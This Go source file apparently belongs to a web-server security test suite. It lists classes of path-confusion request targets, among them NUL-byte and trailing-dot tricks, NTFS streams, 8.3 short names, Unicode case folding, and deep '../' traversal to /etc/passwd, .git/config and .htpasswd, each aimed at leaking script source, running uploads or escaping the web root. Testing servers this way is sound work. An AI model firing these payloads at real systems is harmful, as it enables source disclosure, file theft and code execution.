package attacks

import "strings"

const (
	sourceWins = "the source of a script, which has a mark that no run prints"
	uploadWins = "an upload runs as a script, or its neighbour that the target does not name"
)

// ends are the targets of scripts and files with something behind their names.
func ends(values ...string) []Attack {
	all := each([]string{"/app.php*", "/dir/b.php*", "/dir.php/inner.php*", "/uploads/avatar.jpg*"}, values...)
	for i := range all { // who takes the end for nothing runs the script, and shows no source
		all[i].begins("/app.php", "/dir/b.php", "/dir.php/inner.php")
	}
	return all
}

// names are attacks with another name for a file.
var names = []Class{
	{"NUL", "the name ends there for the system, and goes on for the check", sourceWins,
		append(ends("%00", "%00.txt", "%00.php", "%2500.jpg"),
			targets("/%00/app.php", "/text.txt%00.php", "/app.php\x00.txt", "/dir%00/b.php",
				"/uploads/avatar.jpg%00/x.php", "/uploads/avatar.jpg%2500.php", "/app.ph%00p")...)},
	{"trailing dots", "Windows drops them", sourceWins,
		append(ends(".", "..", "%2e", "./", "%2e%2e%2e"), targets("/dir./b.php",
			"/.git./config")...)},
	{"trailing spaces", "Windows drops them, and so do some parsers", sourceWins,
		append(ends("%20", "+", "%09", "%0a", "%0d%0a", "%a0", "%c2%a0"), targets("/dir%20/b.php")...)},
	{"case", "the same file where case does not matter, and another extension", sourceWins,
		targets("/APP.PHP", "/app.PHP", "/app.Php", "/App.php", "/app.ph%50", "/index.PHP", "/Index.php", "/INDEX.PHP",
			"/DIR/b.php", "/dir/B.PHP", "/UPLOADS/avatar.JPG.php", "/.GIT/config",
			"/.HTACCESS", "/APP.PHP/x.php", "/APP.PHP/", "/dir/../APP.PHP")},
	{"letters that fold", "other letters are the same where case does not matter", sourceWins,
		targets("/app.p%d2%bbp", "/%e1%b4%80pp.php", "/app.%ef%bd%90hp", "/app.ph%ef%bc%b0", "/ad%cc%81min/secret.txt",
			"/%ef%bd%81dmin/secret.txt", "/adm%c4%b1n/secret.txt", "/adm%c4%b0n/panel.php", "/app%e2%80%8b.php",
			"/app.php%e2%80%8b", "/app.php%ef%bb%bf", "/%ef%bb%bfapp.php")},
	{"parameters", "taken off behind the check of the extension or of the rule", sourceWins,
		append(ends(";", ";x", ";.txt", ";.jpg", "%3b.txt", ";x=/y.txt"), targets("/;/APP.PHP", "/;x/admin/secret.txt",
			"/uploads;.php/avatar.jpg",
			"/text.txt;.php", "/uploads/avatar.jpg;/x.php", "/dir;x/b.php", "/uploads/avatar.jpg;x.php/")...)},
	{"streams", "another name for the content of a file on NTFS (CVE-1999-0278)", sourceWins,
		append(ends("::$DATA", "%3a%3a$DATA", "::$data", ":$DATA", ":x", "::$DATA.txt"),
			targets("/admin::$INDEX_ALLOCATION/secret.txt", "/admin:$I30:$INDEX_ALLOCATION/secret.txt",
				"/.git::$INDEX_ALLOCATION/config", "/dir::$INDEX_ALLOCATION/b.php", "/app.php::$DATA/x.php")...)},
	{"short names", "another name for a file on FAT and NTFS (8.3)", sourceWins,
		targets("/APP~1.PHP", "/app~1.php", "/INNER~1.PHP", "/ADMIN~1/secret.txt", "/GIT~1/config", "/git~1/config",
			"/HTACCE~1", "/HTPASS~1", "/LIB~1.PHT", "/UPLOADS~1/AVATAR~1.JPG/x.php", "/app%7e1.php", "/APP~1.PH")},
	{"devices", "names that Windows has in every folder, or Unix in one", "it hangs, or sends anything",
		targets("/con", "/nul", "/aux.php", "/com1.txt", "/prn/x.php", "/lpt1", "/CON.php", "/dir/nul.php", "/conin$",
			"/dev/null", "/dev/zero", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0")},
	{"query marks in the path", "the name ends there for one, and goes on for another", sourceWins,
		append(ends("%3f", "%3f.txt", "%3f.php", "%23", "%23.txt", "%23.php", "%3fx=/y.php", "%26x.php"),
			targets("/text.txt%3f/x.php", "/%3f/../app.php%3f")...)},
	{"query instead of the path", "the extension is looked for in the whole target", uploadWins,
		each([]string{"/uploads/avatar.jpg*", "/uploads/data.txt*", "/uploads/evil.php.jpg*"},
			"?.php", "?/x.php", "?x=.php", "?x.php/", "?%00.php", "??.php", "?/../app.php", "?;.php")},
	{"fragment", "it never is sent; who takes it for a part of the path finds another extension", uploadWins,
		targets("/uploads/avatar.jpg#.php", "/uploads/avatar.jpg#/x.php", "/uploads/data.txt#.php",
			"/text.txt#/../../outside/secret.txt",
			"/admin#/secret.txt", "#/admin/secret.txt", "/uploads/data.txt#?x.php")},
	{"slash behind a file", "the file is opened by one and is a folder to the other", sourceWins,
		append(targets("/uploads/avatar.jpg/", "/uploads/avatar.jpg//", "/uploads/avatar.jpg/.",
			"/uploads/avatar.jpg/./x.php",
			"/uploads/data.txt/", "/uploads/data.txt//", "/uploads/data.txt/.",
			"/style.css/", "/text.txt/dir/b.php",
			"/text.txt/app.php/x"), runs("/app.php", "/app.php//", "/app.php/.", "/app.php/%20/")...)},
	{"folder called like a script", "the extension is found, and the rest is taken for PATH_INFO or sent", sourceWins,
		targets("/dir.php", "/dir.php/", "/dir.php/avatar.jpg/x.php", "/dir.php/none.php",
			"/dir.php//", "/dir.php/.", "/dir.php/INNER.PHP", "/dir.php/avatar.jpg%00.php", "/dir.php/../dir.php/none.php",
			"/dir.php?x=.php", "/dir.php/data.txt/y.php")},
	{"long names", "cut where a buffer ends, with another extension than was checked", sourceWins,
		append(each([]string{"/*", "/*.php", "/dir/*/../b.php.txt", "/uploads/data.txt/*.php",
			"/uploads/avatar.jpg/*.php"},
			strings.Repeat("a", 255), strings.Repeat("a", 256), strings.Repeat("a", 4096), strings.Repeat("%61", 2000)),
			targets("/app.php"+strings.Repeat("%20", 300)+".txt",
				"/app.php"+strings.Repeat(".", 4000), "/app.php"+strings.Repeat("%20", 3000), "/"+strings.Repeat("a",
					30_000))...)},
	{"many segments", "depth is counted wrongly, or each costs something", outWins,
		targets("/"+strings.Repeat("../", 300)+"etc/passwd", "/"+strings.Repeat("a/", 2000)+strings.Repeat("../",
			2001)+"etc/passwd",
			"/"+strings.Repeat("./", 2000)+"../outside/secret.txt", strings.Repeat("/", 4000)+"etc/passwd",
			"/"+strings.Repeat("a/", 2000)+"app.php", "/"+strings.Repeat("dir/../", 1000)+"../outside/secret.txt",
			"/"+strings.Repeat("dir/", 1000)+"b.php", "/"+strings.Repeat("%2e%2e/", 500)+"etc/passwd",
			"/"+strings.Repeat("a/", 128)+strings.Repeat("../", 129)+"outside/secret.txt",
			"/"+strings.Repeat("a/", 256)+strings.Repeat("../", 257)+"outside/secret.txt")},
}
